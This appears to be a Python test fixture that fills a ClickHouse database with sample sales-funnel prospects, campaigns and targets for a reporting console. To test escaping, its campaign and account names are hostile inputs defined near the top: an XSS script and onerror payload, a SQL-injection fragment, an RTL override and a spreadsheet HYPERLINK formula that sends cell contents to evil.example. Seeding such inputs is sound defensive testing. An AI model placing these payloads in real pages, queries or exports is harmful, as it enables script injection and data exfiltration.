"""A small population for the console, with names that nobody should trust."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

from clickhouse_driver import Client

from funnel.definition import load_funnels
from journey.funnel_files import PRESETS
from sinks.funnels import write_funnels
from sinks.given import SEGMENTS, TARGETS, Key, give
from sinks.refresh import refresh

SCRIPT = "<script>document.title='harmed'</script><img src=x onerror=\"document.title='harmed'\">"
LONG = "x'\"<b>&amp;\\" * 1_000
RTL = "\u202eevil\u202c مرحبا"
EMOJI = "🚀🧪👩‍👩‍👧 campaign"
CONTROLS = "tab\tline\nback\\slash {campaign:String} ' OR 1=1 --"
FORMULA = '=HYPERLINK("https://evil.example/"&A1)'
HOSTILE = (SCRIPT, LONG, RTL, EMOJI, CONTROLS)
CAMPAIGNS = ("", "spring", *HOSTILE)
CANARY_EMAIL, CANARY_PHONE = "canary@personal.example", "+14155550100"
LEFT = "-left behind"
"""An account that somebody bought for, who is with another one now."""
FUNNEL = "sales"
_STAGES = ("awareness", "interest", "consideration", "purchase")
_MOVE = (
    "funnel, funnel_version, prospect_id, visit, step, kind, from_stage, to_stage, entered_at, visit_opened_at, seconds_in_from, cause_source,"
    " cause_event_id, channel, type, campaign, first_channel, first_campaign, account_id, amount, currency, reason, rep, revision, is_deleted"
)


def prospect(number: int) -> uuid.UUID:
    """The id of a prospect of this population."""
    return uuid.uuid5(uuid.NAMESPACE_URL, f"prospect {number}")


def account_of(campaign: str) -> str:
    """Whom the prospects of a campaign work for: names as nobody should trust, too."""
    return campaign or FORMULA


def fill(client: Client, now: datetime | None = None) -> None:
    """Insert the population into migrated tables, and bring the aggregates up to it.

    Prospect n opens a visit in campaign n modulo their number; n modulo 5 says what becomes of it: won, lost, expired, sent back and waiting,
    stalled. Every second who won buys again. The first one has identifiers.
    """
    opened = (now or datetime.now(UTC)).replace(microsecond=0) - timedelta(days=40)
    write_funnels(client, load_funnels([PRESETS / "sales.toml"]))
    moves: list[tuple[Any, ...]] = []
    standings: list[tuple[Any, ...]] = []
    for number in range(42):
        at = opened + timedelta(hours=number)
        campaign, channel = CAMPAIGNS[number % len(CAMPAIGNS)], ("web", "email", "call")[number % 3]
        steps: list[tuple[str, str, str]] = [("enter", "", "awareness"), ("advance", "awareness", "interest")]
        fate = number % 5
        if fate == 0:
            steps += [("advance", "interest", "consideration"), ("advance", "consideration", "purchase")]
            steps += [("repeat", "purchase", "purchase")] if number % 10 == 0 else []
        elif fate == 1:
            steps += [("advance", "interest", "consideration"), ("lost", "consideration", "lost")]
        elif fate == 2:
            steps += [("expired", "interest", "expired")]
        elif fate == 3:
            steps += [("advance", "interest", "consideration"), ("back", "consideration", "interest")]
        for step, (kind, source, target) in enumerate(steps):
            moves.append(
                (FUNNEL, 1, prospect(number), 1, step, kind, source, target, at + timedelta(days=3 * step), at, 259_200.0 if step else 0.0,
                 "website", f"event {number}.{step}", channel, "page_view", campaign, channel, campaign, LEFT if number == 35 else account_of(campaign),
                 100 if target == "purchase" else 0, "EUR" if target == "purchase" else "", SCRIPT if kind == "lost" else "",
                 "Zoë <b>", 1, 0)
            )  # fmt: skip
        end = at + timedelta(days=3 * (len(steps) - 1))
        stage = "" if fate < 3 else "interest"
        status = ("won", "lost", "expired", "open", "open")[fate]
        stalled = end + timedelta(days=10) if fate == 4 else None
        standings.append((FUNNEL, prospect(number), stage, 1, status, end, end, account_of(campaign), stalled, 1, 0))
    client.execute(f"INSERT INTO stage_transitions ({_MOVE}) VALUES", moves)
    client.execute(
        "INSERT INTO prospects (funnel, prospect_id, stage, visit, status, stage_entered_at, last_activity_at, account_id, stalled_since, revision, is_deleted) VALUES",
        standings,
    )
    client.execute(
        "INSERT INTO prospect_identifiers (prospect_id, kind, value, revision, is_deleted) VALUES",
        [
            (prospect(number), kind, value, 1, 0)
            for number in (0, 4)
            for kind, value in (("email", CANARY_EMAIL), ("phone", CANARY_PHONE))
        ],
    )
    client.execute(
        "INSERT INTO prospect_aliases (old_id, new_id, since, revision, is_deleted) VALUES",
        [(prospect(1_000), prospect(0), opened, 1, 0)],
    )
    client.execute(
        "INSERT INTO handoff_parts (funnel, prospect_id, visit, step, part, occurred_at, campaign, from_team, to_team, stage, first_campaign, respond_by, revision, is_deleted) VALUES",
        [
            (
                FUNNEL,
                prospect(number),
                1,
                2,
                0,
                opened,
                campaign,
                "marketing",
                SCRIPT,
                "consideration",
                campaign,
                opened,
                1,
                0,
            )
            for number, campaign in enumerate(CAMPAIGNS)
        ],
    )
    client.execute(
        "INSERT INTO dead_letters (origin_topic, origin_partition, origin_offset, reason, stage, message, key, value, kafka_time) VALUES",
        [("web-events", 0, 1, "undecodable", "intake", "x", CANARY_EMAIL, CANARY_EMAIL, opened)],
    )
    give(client, SEGMENTS, {(account_of(name),): (f"@{name}",) for name in HOSTILE})
    give(client, TARGETS, _targets(opened))
    _stand_in(client)
    refresh(client)


def _targets(opened: datetime) -> dict[Key, Key]:
    """One for each metric and period, and for each hostile name one that names a campaign."""
    month = opened.date().replace(day=1)
    ends = (opened + timedelta(days=50)).date()
    return {
        ("Entries",): (FUNNEL, "entered", "interest", "", "monthly", None, month, None, 20.0),
        ("Revenue",): (FUNNEL, "revenue", "", "EUR", "monthly", None, month, None, 1_000.0),
        ("Rate",): (FUNNEL, "conversion_rate", "", "", "monthly", None, month, None, 0.5),
        **{(name,): (FUNNEL, "won", "", "", "campaign", name, opened.date(), ends, 1.0) for name in HOSTILE},
    }


_AGREED = {
    "cohorts": "funnel String, week Date, visits UInt64, position UInt16, stage String, day UInt16, reached UInt64, share Nullable(Float64), is_mature Bool",
    "campaigns": "funnel String, campaign String, currency String, reach UInt64, leads UInt64, won UInt64, lost UInt64, waiting UInt64,"
    " revenue Decimal(38, 2), spend Nullable(Decimal(38, 2)), cost_per_lead Nullable(Float64), cac Nullable(Float64), roas Nullable(Float64)",
    "attribution": "funnel String, model String, channel_group String, campaign String, currency String, conversions Float64, value Float64",
    "stage_velocity_weekly": "funnel String, position UInt16, stage String, week Date, moved_on UInt64, median_seconds Float64, p75_seconds Float64,"
    " p90_seconds Float64, is_mature Bool",
}
"""Views that reporting makes, where this installation does not have them: their columns are what the console relies on."""


def _stand_in(client: Client) -> None:
    there = {row[0] for row in client.execute("SHOW TABLES")}
    for name, columns in _AGREED.items():
        if name not in there:
            client.execute(f"CREATE TABLE {name} ({columns}) ENGINE = Memory")
    week = datetime(2026, 1, 5, tzinfo=UTC).date()
    if "cohorts" not in there:
        client.execute(
            "INSERT INTO cohorts VALUES",
            [
                (FUNNEL, week, 10, place, stage, day, day, day / 20 if day < 8 else None, day < 8)
                for place, stage in enumerate(_STAGES, 1)
                for day in (0, 1, 7, 14)
            ],
        )
    if "campaigns" not in there:
        client.execute(
            "INSERT INTO campaigns VALUES",
            [(FUNNEL, name, "EUR", 6, 5, 2, 1, 2, 200, None, None, None, None) for name in CAMPAIGNS],
        )
    if "attribution" not in there:
        client.execute(
            "INSERT INTO attribution VALUES",
            [
                (FUNNEL, model, "Email" if name else "(unattributed)", name, "EUR", 1.5, 150.0)
                for model in ("first", "last", "markov")
                for name in CAMPAIGNS
            ],
        )
    if "stage_velocity_weekly" not in there:
        client.execute(
            "INSERT INTO stage_velocity_weekly VALUES", [(FUNNEL, 1, "awareness", week, 3, 60.0, 90.0, 100.0, False)]
        )
